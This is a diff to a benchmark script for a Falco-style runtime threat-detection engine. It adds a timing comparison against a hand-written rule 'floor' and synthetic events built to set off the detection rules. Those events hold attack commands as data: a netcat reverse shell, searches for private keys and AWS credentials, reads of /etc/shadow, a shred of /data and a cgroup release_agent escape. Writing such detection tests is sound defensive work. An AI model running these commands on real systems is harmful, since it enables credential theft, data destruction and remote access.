@@ -27,6 +27,7 @@ import { readScap } from '../src/runtime/replay/index.js';
 import type { RuntimeEvent } from '../src/runtime/event.js';
 import { rng } from '../test/helpers/random.js';
 import { sensorBuiltMix } from './sensor-mix.js';
+import { floorDisagreements, handWrittenFloor } from './runtime-floor.js';
 
 const REF = process.env.GATEHOUSE_FALCO_REF ?? fileURLToPath(new URL('../../shared/reference/falco', import.meta.url));
 const STABLE = `${REF}/rules/falco_rules.yaml`;
@@ -94,6 +95,45 @@ function rate(rs: RuleSet, events: RuntimeEvent[], minMs = 1500): { perSec: numb
   return { perSec: (n / ms) * 1000, alerts };
 }
 
+function rateOf(fn: (ev: RuntimeEvent) => number, events: RuntimeEvent[], minMs: number): { perSec: number; alerts: number } {
+  for (let i = 0; i < Math.min(events.length, 50_000); i++) fn(events[i]!);
+  let n = 0;
+  let alerts = 0;
+  const t0 = cpuMs();
+  let ms = 0;
+  do {
+    for (let i = 0; i < events.length; i++) alerts += fn(events[i]!);
+    n += events.length;
+    ms = cpuMs() - t0;
+  } while (ms < minMs);
+  return { perSec: (n / ms) * 1000, alerts };
+}
+
+/** Copies of some mix events changed so that stable rules fire (to check the floor where it alerts). */
+function alertingVariants(events: RuntimeEvent[]): RuntimeEvent[] {
+  const changes: Array<Partial<RuntimeEvent>> = [
+    { 'fd.name': '/etc/shadow', 'fd.directory': '/etc', 'fd.filename': 'shadow', 'evt.is_open_read': true, 'evt.is_open_write': false },
+    { 'fd.name': '/etc/pam.d/common-auth', 'fd.directory': '/etc/pam.d', 'fd.filename': 'common-auth', 'evt.is_open_read': true, 'evt.is_open_write': false, 'proc.name': 'nginx' },
+    { 'fd.name': '/etc/shadow', 'fd.nameraw': '../../etc/shadow', 'fd.directory': '/etc', 'evt.is_open_read': true, 'evt.is_open_write': false },
+    { 'fd.name': '/var/log/syslog', 'fd.directory': '/var/log', 'fd.filename': 'syslog', 'evt.is_open_read': false, 'evt.is_open_write': true, 'evt.arg.flags': 'O_WRONLY|O_TRUNC' },
+    { 'fd.name': '/sys/fs/cgroup/release_agent', 'evt.is_open_read': false, 'evt.is_open_write': true, 'user.uid': 0, 'thread.cap_effective': 'CAP_SYS_ADMIN CAP_DAC_OVERRIDE' },
+    { 'proc.name': 'sh', 'proc.pname': 'nginx', 'proc.aname': ['nginx', 'containerd-shim'] },
+    { 'proc.name': 'bash', 'proc.tty': 34816, 'proc.pname': 'containerd-shim' },
+    { 'proc.name': 'nc', 'proc.cmdline': 'nc -e /bin/sh 10.0.0.1 4444' },
+    { 'proc.name': 'grep', 'proc.args': '-r BEGIN RSA PRIVATE /' },
+    { 'proc.name': 'find', 'proc.args': '/ -name credentials -path *.aws/credentials' },
+    { 'proc.name': 'shred', 'proc.args': '-u /data' },
+    { 'proc.exe': '/dev/shm/x', 'proc.name': 'x' },
+    { 'proc.is_exe_from_memfd': true },
+    { 'proc.is_exe_upper_layer': true },
+    { 'user.name': 'www-data', 'proc.name': 'login' },
+    { 'proc.exe': '/usr/bin/ssh', 'fd.sport': 443, 'fd.sip': '172.217.1.4', 'fd.l4proto': 'tcp' },
+  ];
+  const out: RuntimeEvent[] = [];
+  for (let i = 0; i < events.length; i++) out.push(Object.assign({}, events[i]!, changes[i % changes.length]!) as RuntimeEvent);
+  return out;
+}
+
 /** sysdig's CPU time (user + system, from bash's `times`), best of `runs`. */
 function timeSysdig(trace: string, filter: string, runs = 5): number {
   let best = Infinity;
@@ -147,10 +187,25 @@ async function main(): Promise<void> {
   // dictionary-mode objects, and no unwatched syscalls, which the kernel side filters out).
   const n = Number(process.env.GATEHOUSE_BENCH_EVENTS ?? 5_000);
   const parsed = syntheticMix(n).map((e) => JSON.parse(JSON.stringify(e)) as RuntimeEvent);
-  for (const [label, mix] of [['JSON-parsed events', parsed], ['events built by the sensor (opens, execs, connects)', sensorBuiltMix(n)]] as const) {
+  const built = sensorBuiltMix(n);
+  for (const [label, mix] of [['JSON-parsed events', parsed], ['events built by the sensor (opens, execs, connects)', built]] as const) {
     const m = rate(rs, mix);
-    console.log(`stable ruleset (${rs.rules.length} rules), synthetic mix of ${mix.length} ${label}: ${fmt(m.perSec)} events/s per CPU-second (${m.alerts} alerts) — floor ${fmt(FLOOR)}: ${(m.perSec / FLOOR).toFixed(2)}×`);
+    console.log(`stable ruleset (${rs.rules.length} rules), synthetic mix of ${mix.length} ${label}: ${fmt(m.perSec)} events/s per CPU-second (${m.alerts} alerts) — goal ${fmt(FLOOR)}: ${(m.perSec / FLOOR).toFixed(2)}×`);
   }
+  // The floor, measured in the same run on the same sensor-built events: the same stable
+  // conditions written by hand as one JS function (bench/runtime-floor.ts), checked to pick
+  // the same rule as the engine on every event (and on alerting variants of them).
+  const floor = handWrittenFloor(rs);
+  const wrong = floorDisagreements(rs, floor, [...built, ...alertingVariants(built)]);
+  if (wrong.length) throw new Error(`the hand-written floor disagrees with the engine:\n${wrong.join('\n')}`);
+  // interleaved, best of three each: the shared machine's noise hits both sides alike
+  let best = { engine: 0, floor: 0 };
+  for (let k = 0; k < 3; k++) {
+    const e = rate(rs, built, 700).perSec;
+    const f = rateOf((ev) => (floor.first(ev) === null ? 0 : 1), built, 700).perSec;
+    best = { engine: Math.max(best.engine, e), floor: Math.max(best.floor, f) };
+  }
+  console.log(`sensor-built mix, same run: engine ${fmt(best.engine)} events/s per CPU-second, hand-written floor ${fmt(best.floor)} → engine at ${(best.engine / best.floor).toFixed(2)}× the floor; engine ${best.engine >= FLOOR ? 'meets' : 'does NOT meet'} the ${fmt(FLOOR)} goal (${(best.engine / FLOOR).toFixed(2)}×)`);
 
   const sysdigOk = spawnSync('sysdig', ['--version'], { stdio: 'ignore' }).status === 0;
   if (!sysdigOk || !existsSync(`${REF}/traces`)) {
